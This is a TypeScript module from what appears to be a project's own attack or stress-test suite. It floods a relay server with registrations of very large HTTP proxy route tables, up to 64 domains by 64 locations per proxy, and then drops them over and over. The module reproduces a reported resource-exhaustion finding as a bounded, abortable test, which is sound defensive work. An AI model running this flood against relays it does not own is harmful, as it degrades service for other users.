// A logged-in client registers http proxies of 64 customDomains x 64 locations each (the most a
// spec may carry), as many as one session can send, then closes and starts again under a new
// client id: every round asks the relay for up to 6.5M routes and then to drop them all (issue 22,
// finding 2). Bounded at MAX_PROXIES_PER_ROUND proxies per session and MAX_ROUNDS sessions.
import { rawSession } from '../lib/raw-client.js'
import { MessageType, type RelayMessage } from '../../shared/wire/index.js'
import type { Attack } from './attack.js'

const MAX_PROXIES_PER_ROUND = 1600
const MAX_ROUNDS = 50
const SPECS_PER_MESSAGE = 16
const DOMAINS_PER_SPEC = 64
const LOCATIONS_PER_SPEC = 64
const LOCATIONS = Array.from({ length: LOCATIONS_PER_SPEC }, (_, k) => `/l${k}`)

function spec (round: number, i: number): Record<string, unknown> {
  return {
    name: `vr${round}-${i}`,
    type: 'http',
    customDomains: Array.from({ length: DOMAINS_PER_SPEC }, (_, j) => `p${i}-d${j}.r${round}.test`),
    locations: LOCATIONS,
  }
}

export const vhostRoutes: Attack = {
  name: 'vhost-routes',
  what: 'one client registers http proxies of 64 domains x 64 locations each, then drops them all, again and again',
  run: async (target, signal) => {
    let sent = 0
    let ok = 0
    const refused = new Map<string, number>()
    for (let round = 0; round < MAX_ROUNDS && !signal.aborted; round++) {
      const c = await rawSession(target, `attack-vhost-${process.pid}-${round}`)
      let answered = 0
      let wake: () => void = () => {}
      c.session.on('control', (m: RelayMessage) => {
        if (m.type !== MessageType.PROXY_RESULT) return
        answered++
        if (m.ok) ok++
        else refused.set(m.code ?? '?', (refused.get(m.code ?? '?') ?? 0) + 1)
        wake()
      })
      let closed = false
      c.session.once('close', () => { closed = true; wake() })
      const onAbort = (): void => { wake() }
      signal.addEventListener('abort', onAbort)
      let roundSent = 0
      for (let i = 0; i < MAX_PROXIES_PER_ROUND && !signal.aborted && !closed; i += SPECS_PER_MESSAGE) {
        const proxies = Array.from({ length: Math.min(SPECS_PER_MESSAGE, MAX_PROXIES_PER_ROUND - i) }, (_, k) => spec(round, i + k))
        c.control({ type: MessageType.REGISTER, proxies })
        roundSent += proxies.length
        await new Promise((resolve) => setImmediate(resolve))
      }
      sent += roundSent
      // Every answer in (or the time is up), then the session goes: the relay drops every route.
      while (!signal.aborted && !closed && answered < roundSent) {
        await new Promise<void>((resolve) => { wake = resolve })
      }
      signal.removeEventListener('abort', onAbort)
      c.close()
    }
    const codes = [...refused].map(([code, n]) => `${n} ${code}`).join(', ')
    return { sent, unit: 'http proxies (64x64 routes each)', note: `${ok} accepted${codes === '' ? '' : `, refused: ${codes}`}` }
  },
}
